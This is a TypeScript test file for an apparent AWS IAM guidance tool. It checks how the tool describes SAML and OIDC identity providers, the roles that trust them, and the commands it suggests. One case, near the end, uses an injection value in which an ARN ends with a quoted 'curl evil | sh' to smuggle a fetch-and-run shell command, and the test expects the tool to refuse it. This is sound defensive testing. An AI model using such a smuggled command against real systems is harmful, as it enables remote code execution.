import { document, held, is, madeAccount, madeRole, none } from '../../../account/cases.ts';
import type { OidcProvider, SamlProvider } from '../../../account/entities.ts';
import { unknown } from '../../../account/part.ts';
import { table } from '../../../account/table.ts';
import type { ActionCase } from '../../cases.ts';
import { plannedEvent } from '../../plan/planned-event.ts';

const saml: SamlProvider = {
  arn: 'arn:aws:iam::111122223333:saml-provider/Corp',
  created: none,
  validUntil: is('2026-12-01T00:00:00Z'),
  metadataDigest: is('ab12'),
  tags: held({}),
};
const oidc: OidcProvider = {
  arn: 'arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com',
  url: is('token.actions.githubusercontent.com'),
  created: none,
  clientIds: held({ 'sts.amazonaws.com': true as const }),
  thumbprints: is(['6938fd4d98bab03faadb97b34396831e3780aea1']),
  tags: held({}),
};
const whole = is(true as const);
const trusting = (name: string, arn: string) =>
  madeRole(name, { trust: is(document([{ Effect: 'Allow', Principal: { Federated: arn }, Action: 'sts:AssumeRoleWithSAML' }])) });
const state = madeAccount({
  roles: [trusting('people', saml.arn), trusting('ci', oidc.arn), madeRole('other')],
  over: { samlProviders: { by: table([[saml.arn, saml]]), whole }, oidcProviders: { by: table([[oidc.arn, oidc]]), whole } },
});
const changed = plannedEvent(
  { service: 'iam', action: 'UpdateSAMLProvider', parameters: { SAMLProviderArn: saml.arn, SAMLMetadataDocument: '<x/>' } },
  { account: '111122223333', partition: 'aws', at: '2026-03-01T00:00:00Z' },
);

export const cases: readonly ActionCase[] = [
  {
    name: 'a SAML provider, who trusts it, and what was changed',
    state,
    target: `saml-provider:${saml.arn}`,
    events: { [`saml-provider/${saml.arn}`]: [changed] },
    expect: 'guide',
    says: [
      'These roles trust it: people.',
      'SHA-256 ab12',
      'valid until 2026-12-01T00:00:00Z',
      '2026-03-01T00:00:00Z: ',
      `get-saml-provider --saml-provider-arn '${saml.arn}'`,
      'revoke-sessions --target role:people',
    ],
  },
  {
    name: 'an OIDC provider, its client ids and thumbprints',
    state,
    target: `oidc-provider:${oidc.arn}`,
    expect: 'guide',
    says: [
      'These roles trust it: ci.',
      'sts.amazonaws.com',
      '6938fd4d98bab03faadb97b34396831e3780aea1',
      "-connect 'token.actions.githubusercontent.com:443'",
      'add-federation-condition --target role:ci',
    ],
  },
  {
    name: 'every provider, and IAM Identity Center',
    state,
    target: 'account',
    expect: 'guide',
    says: [`saml-provider:${saml.arn}`, `oidc-provider:${oidc.arn}`, 'Identity source'],
  },
  {
    name: 'an account without providers',
    state: madeAccount(),
    target: 'account',
    expect: 'guide',
    says: ['is not known to have an identity provider'],
  },
  {
    name: 'one that was deleted, while roles still trust it',
    state: madeAccount({ roles: [trusting('people', saml.arn)] }),
    target: `saml-provider:${saml.arn}`,
    expect: 'guide',
    says: ['There is no provider', 'These roles trust it: people.'],
  },
  {
    name: 'one that was not read',
    state: madeAccount({ over: { oidcProviders: { by: table<OidcProvider>(), whole: unknown('access denied') } } }),
    target: 'oidc-provider:arn:aws:iam::111122223333:oidc-provider/id.example.com:8443/realms/x',
    expect: 'guide',
    says: ['has not read the provider', "-connect 'id.example.com:8443'", 'No role of the account is known to trust'],
  },
  {
    name: 'one of another account',
    state,
    target: 'saml-provider:arn:aws:iam::999999999999:saml-provider/Corp',
    expect: 'refused',
    says: ['belongs to another account'],
  },
  { name: 'an ARN of another kind', state, target: `saml-provider:${oidc.arn}`, expect: 'refused', says: ['is no ARN of a SAML provider'] },
  {
    name: 'an ARN that would end a command',
    state,
    target: "oidc-provider:arn:aws:iam::111122223333:oidc-provider/x'; curl evil | sh #",
    expect: 'refused',
  },
  {
    name: 'an ARN of another partition',
    state,
    target: 'saml-provider:arn:aws-cn:iam::111122223333:saml-provider/Corp',
    expect: 'refused',
  },
];
